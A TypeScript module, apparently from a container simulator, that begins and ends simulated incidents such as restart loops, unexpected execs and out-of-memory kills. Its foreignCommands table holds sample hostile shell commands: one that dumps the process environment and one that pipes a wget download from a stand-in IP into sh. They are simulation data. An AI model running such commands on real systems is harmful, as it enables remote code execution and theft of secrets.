import { isAlive } from './container.ts';
import type { ActiveIncident, Container } from './container.ts';
import { runExec } from './exec.ts';
import type { IncidentRequest, Strength } from './incident.ts';
import { armRestartLoop, endRun } from './lifecycle.ts';
import { currentLoad, advanceUsage, runMs, settleUsage } from './usage.ts';
import type { World } from './world.ts';

const foreignCommands: Readonly<Record<Strength, string>> = {
  weak: 'sh -c id',
  medium: 'sh -c cat /proc/self/environ | head -c 4096',
  strong: 'sh -c wget -qO- http://198.51.100.7/x | sh',
};
const execLengthMs: Readonly<Record<Strength, number>> = {
  weak: 1_000,
  medium: 5_000,
  strong: 20_000,
};

/**
 * Begins an incident in a container that has processes; otherwise nothing happens and the answer is
 * false. An incident of the same kind is replaced.
 */
export function beginIncident(
  world: World,
  container: Container,
  request: IncidentRequest,
): boolean {
  if (!isAlive(container)) return false;
  const now = world.time.now();
  endIncident(world, container, request.kind);
  const strength = request.strength ?? 'medium';
  const startedAtRunMs = runMs(container.usage, now);
  const incident: ActiveIncident = { kind: request.kind, strength, startedAtRunMs };
  container.incidents.push(incident);
  if (request.kind === 'restart-loop') armRestartLoop(world, container);
  if (request.kind === 'unexpected-exec') {
    const command = request.command ?? foreignCommands[strength];
    runExec(world, container, command, execLengthMs[strength], () =>
      endIncident(world, container, 'unexpected-exec'),
    );
  }
  if (request.forSeconds !== undefined) {
    world.time.schedule.at(now + request.forSeconds * 1_000, () => {
      if (container.incidents.includes(incident)) endIncident(world, container, request.kind);
    });
  }
  return true;
}

/** Ends an incident; what it held is given back at once. */
export function endIncident(
  world: World,
  container: Container,
  kind: IncidentRequest['kind'],
): void {
  settleUsage(container, world.time.now(), world.settings);
  container.incidents = container.incidents.filter((incident) => incident.kind !== kind);
}

/** Whether the container may run out of memory, so that each second has to be looked at. */
export function mayRunOut(container: Container): boolean {
  return (
    container.state.status === 'running' &&
    (container.limits.memoryBytes > 0 || container.incidents.length > 0)
  );
}

/** Kills a container that wants more memory than it may have, as the kernel does. */
export function killWhenOutOfMemory(world: World, container: Container): void {
  advanceUsage(container, world.time.now(), world.settings);
  if (currentLoad(container, world.settings).outOfMemory) endRun(world, container, 137, true);
}
